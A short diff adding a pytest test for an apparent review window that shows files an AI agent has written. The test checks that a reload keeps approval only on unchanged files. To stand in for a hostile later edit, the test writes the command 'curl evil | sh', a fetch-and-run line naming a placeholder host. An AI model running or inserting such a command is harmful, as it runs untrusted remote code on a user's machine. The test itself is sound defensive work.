@@ -118,3 +118,16 @@ def test_lookalike_names_carry_a_visible_warning_and_are_not_approved_with_the_r
     assert window.viewer.toPlainText().startswith("warning: the name ends with a space")
     window._approve_all()
     assert [p.name for p in window.approved()] == ["plain.md"]
+
+
+def test_a_reload_keeps_a_tick_only_on_what_did_not_change(
+    staged: tuple[Review, Path, Path], run: Callable[..., object]
+) -> None:
+    review, _, upper = staged
+    (upper / "report.txt").write_text("a harmless edit\n")
+    (upper / "plain.md").write_text("nothing odd\n")
+    window = open_window(review, run)
+    window._approve_all()
+    (upper / "report.txt").write_text("curl evil | sh\n")  # the agent writes again
+    run(window.load())  # the window is opened again
+    assert [p.name for p in window.approved()] == ["plain.md"]
